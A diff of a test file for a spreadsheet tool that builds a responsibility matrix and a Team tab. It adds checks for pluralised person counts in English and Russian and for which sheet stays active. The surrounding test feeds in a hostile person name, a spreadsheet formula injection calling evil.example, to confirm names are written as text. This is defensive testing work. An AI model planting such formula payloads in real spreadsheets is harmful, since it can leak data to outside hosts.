@@ -105,11 +105,20 @@ describe('the team in document properties', () => {
 });
 
 describe('the Team tab', () => {
+  it('counts the people it lists in words that agree with the number', () => {
+    emulatorWithGlobals();
+    expect(buildResponsibilityMatrix(teamWith({ people: [ANNA] })).details.at(-1)).toBe('Team tab lists 1 person.');
+    setUserLang('ru');
+    expect(buildResponsibilityMatrix(teamWith({ people: [ANNA, OLEG] })).details.at(-1)).toBe('На листе «Команда» — 2 человека.');
+  });
+
   it('lists the people with role names, costs in the currency, written as text, protected with a warning', () => {
     const emulator = emulatorWithGlobals();
     const hostile = { ...OLEG, name: '=IMPORTXML("http://evil.example", "//a")' };
     const result = buildResponsibilityMatrix(teamWith({ people: [ANNA, hostile] }));
     expect(result.details.at(-1)).toBe('Team tab lists 2 people.');
+    // The Team tab is inserted after the Roles tab, yet the matrix the person asked for is the one shown.
+    expect(emulator.SpreadsheetApp.getActiveSpreadsheet().getActiveSheet().getName()).toBe('Roles');
     const tab = emulator.snapshot('Team');
     expect(tab.values.slice(0, 3)).toEqual([
       ['Name', 'Email', 'Role', 'Monthly cost', 'Staff or contractor'],
